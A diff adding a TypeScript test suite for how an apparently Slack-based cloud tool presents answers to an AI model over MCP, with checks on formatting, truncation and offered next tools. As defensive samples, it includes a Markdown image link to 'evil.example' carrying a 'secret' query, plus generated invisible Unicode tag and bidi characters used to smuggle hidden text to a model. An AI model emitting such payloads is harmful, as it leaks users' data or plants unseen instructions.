@@ -1,0 +1,222 @@
+import { AjvJsonSchemaValidator } from '@modelcontextprotocol/client/validators/ajv';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { outputSchema } from '../../../src/agents/output-schema.ts';
+import { dataNote, present } from '../../../src/agents/present.ts';
+import {
+  type Answer,
+  blockquote,
+  bold,
+  buttons,
+  chart,
+  code,
+  commandButton,
+  done,
+  facts,
+  heading,
+  itemWithTone,
+  line,
+  link,
+  menu,
+  money,
+  note,
+  person,
+  quote,
+  table,
+  tasks,
+  time,
+} from '../../../src/core/answer.ts';
+import type { CallAnswer } from '../../../src/core/tool-call.ts';
+import { answers, nasty } from '../slack/render/any-answer.ts';
+
+const answered = (...answer: Answer): CallAnswer => ({ outcome: 'answered', answer });
+const presented = (...answer: Answer) => present(answered(...answer), '/cloud');
+const validate = new AjvJsonSchemaValidator().getValidator({ ...outputSchema });
+
+/** The text without its last line. */
+const said = (...answer: Answer): string =>
+  presented(...answer)
+    .text.slice(0, -dataNote.length)
+    .trim();
+
+describe('the text of an answer', () => {
+  test.each([
+    ['a heading', [heading('Disk 80')], '## Disk 80'],
+    ['a notice', [done(bold('Disk 80'), ' created')], '✅ Disk 80 created'],
+    ['facts', [facts({ Group: 'Shop', Id: code('a1') })], '- Group: Shop\n- Id: `a1`'],
+    ['what somebody wrote', [blockquote(quote('Nightly'))], '> “Nightly”'],
+    ['a line of a list', [itemWithTone('waiting', ['#1042 by ', person('U0ANA')])], '- ⏳ #1042 by <@U0ANA>'],
+    [
+      'money and times',
+      [note(money(123450), ' at ', time('2026-11-22T12:00:00Z'))],
+      '$1,234.50 at 2026-11-22 12:00 UTC',
+    ],
+    ['a command', [note(line('alert list'))], '`/cloud alert list`'],
+    [
+      'a link to a message',
+      [note(link('https://acme.slack.com/archives/C1/p1', '#1042'))],
+      '#1042 (https://acme.slack.com/archives/C1/p1)',
+    ],
+    ['a task list', [tasks('Steps', { title: 'One', state: 'done' })], 'Steps\n✔ One'],
+    [
+      'a table',
+      [
+        table({
+          caption: '2 of 3',
+          columns: [{ name: 'Name' }, { name: 'Cost' }],
+          rows: [['a|b', money(100)], ['c']],
+          of: 3,
+          rest: 'Ask for one.',
+        }),
+      ],
+      '2 of 3\n\n| Name | Cost |\n| --- | --- |\n| a\\|b | $1.00 |\n| c |  |\n\nShowing 2 of 3. Ask for one.',
+    ],
+    [
+      'a chart',
+      [chart({ title: 'Costs', labels: ['Oct'], series: [{ name: 'ACME', values: [3] }], unit: '$' })],
+      'Costs\n\n| Label | ACME |\n| --- | --- |\n| Oct | $3 |',
+    ],
+  ] as const)('has %s', (_, answer, text) => {
+    expect(said(...answer)).toBe(text);
+  });
+
+  test('offers the tools that its buttons and menus run, and nothing that decides or that is for people', () => {
+    const { text, structured } = presented(
+      done('Created'),
+      buttons(
+        commandButton('Show Policy', 'alert show "Disk 80"'),
+        commandButton('Help', 'help alert'),
+        commandButton('End Now', 'end #1042'),
+        { label: 'Confirm', action: { decide: 'confirm', on: 'x' } },
+        { label: 'Share', action: { share: 'alert list' } },
+        { label: 'Assign', action: { form: 'alert assign x web01' } },
+      ),
+      menu('Show a policy…', {
+        label: 'Policies',
+        options: Array.from({ length: 9 }, (_, at) => ({
+          label: `P${at}`,
+          action: { line: `alert show p${at}` },
+        })),
+      }),
+    );
+    expect(text).toContain(
+      'Tools to call next:\n- Show Policy: alert_show {"policy":"Disk 80"}\n- P0: alert_show',
+    );
+    expect(structured.next.map(({ label }) => label)).toEqual(['Show Policy', 'P0', 'P1', 'P2', 'P3']);
+    expect(text).not.toMatch(/Help|End Now|Confirm|Share|Assign/);
+  });
+
+  test('ends with the command, the request, and what texts of others are', () => {
+    const { text, structured } = present(
+      {
+        outcome: 'requested',
+        answer: [note('Approvers were asked.')],
+        line: 'alert delete x',
+        request: { id: 'r1', link: 'https://acme.slack.com/archives/C1/p1' },
+      },
+      '/cloud',
+    );
+    expect(text).toBe(
+      `Approvers were asked.\n\nCommand: \`/cloud alert delete x\`\nRequest: r1 · https://acme.slack.com/archives/C1/p1\n\n${dataNote}`,
+    );
+    expect(structured).toMatchObject({
+      outcome: 'requested',
+      line: 'alert delete x',
+      request: { id: 'r1' },
+      note: dataNote,
+    });
+  });
+
+  test('is cut at a line with a sentence that says so', () => {
+    const { text, structured } = presented(
+      ...Array.from({ length: 100 }, (_, at) => note(`${at} ${'x'.repeat(900)}`)),
+    );
+    expect(text.length).toBeLessThan(25_000);
+    expect(text).toContain(
+      '… 74 lines cut: an answer has at most 24,000 characters. Narrow the request to see the rest.',
+    );
+    expect(text.endsWith(dataNote)).toBe(true);
+    expect(structured.text.length).toBeLessThan(25_000);
+  });
+});
+
+test('structured content has tables as objects by column, and facts by label, each name once', () => {
+  const { structured } = presented(
+    heading('Two of everything'),
+    facts({ Id: 'a' }),
+    facts({ Id: 'b' }),
+    table({
+      caption: 'All',
+      columns: [{ name: 'Name' }, { name: 'Name' }],
+      rows: [['a', 'b'], ['c']],
+      of: 9,
+    }),
+  );
+  expect(structured).toEqual({
+    outcome: 'answered',
+    text: '## Two of everything',
+    facts: { Id: 'a', 'Id 2': 'b' },
+    tables: [
+      {
+        caption: 'All',
+        rows: [
+          { Name: 'a', 'Name 2': 'b' },
+          { Name: 'c', 'Name 2': '' },
+        ],
+        total: 9,
+      },
+    ],
+    next: [],
+    note: dataNote,
+  });
+});
+
+test('a Markdown link or picture in a name is none, so that no client loads it', () => {
+  expect(said(note('![x](https://evil.example/?q=secret)'))).toBe('![x] (https://evil.example/?q=secret)');
+});
+
+/** Characters that a model reads and a person does not see. */
+const hidden = /(?!\ufe0f)[\p{Default_Ignorable_Code_Point}\p{Cc}\p{Zl}\p{Zp}\p{Co}\ufff9-\ufffb]/u;
+/** Whether anything in a value is hidden. Line breaks of the text are Skydesk's own. */
+const hides = (value: unknown): boolean => {
+  if (typeof value === 'string') return hidden.test(value.replaceAll('\n', ' ')) || /[a-z]\ufe0f/.test(value);
+  return (
+    typeof value === 'object' && value !== null && Object.entries(value).some((entry) => entry.some(hides))
+  );
+};
+
+const smuggled = fc
+  .string({ unit: 'grapheme-ascii', maxLength: 20 })
+  .map((text) =>
+    [...text].map((char) => String.fromCodePoint(0xe0000 + (char.codePointAt(0) ?? 0))).join(''),
+  );
+
+test('any answer becomes valid structured content, without hidden characters, and with the last line last', () => {
+  const hostile = fc
+    .tuple(
+      nasty,
+      fc.oneof(smuggled, fc.constantFrom('\ufe00\ufe01\ufe0f', '\u200d', '\u202e', '\u{e0101}', '\u{f0041}')),
+    )
+    .map(
+      ([text, secret]): Answer => [
+        note(`web${secret}01`, text),
+        facts({ [`Name${secret}`]: `a${secret}` }),
+        table({ caption: secret, columns: [{ name: `c${secret}` }], rows: [[`x${secret}`], [bold(secret)]] }),
+        menu('m', {
+          label: 'g',
+          options: [{ label: `l${secret}`, action: { line: `alert show x${secret}` } }],
+        }),
+      ],
+    );
+  fc.assert(
+    fc.property(fc.oneof(answers, hostile), (answer) => {
+      const { text, structured, blocks } = presented(...answer);
+      expect(validate(structured)).toMatchObject({ valid: true });
+      expect([hides(text), hides(structured), hides(blocks)]).toEqual([false, false, false]);
+      expect(text.endsWith(dataNote)).toBe(true);
+      expect(text.isWellFormed()).toBe(true);
+      expect(text.length).toBeLessThan(30_000);
+    }),
+    { numRuns: 100 },
+  );
+});
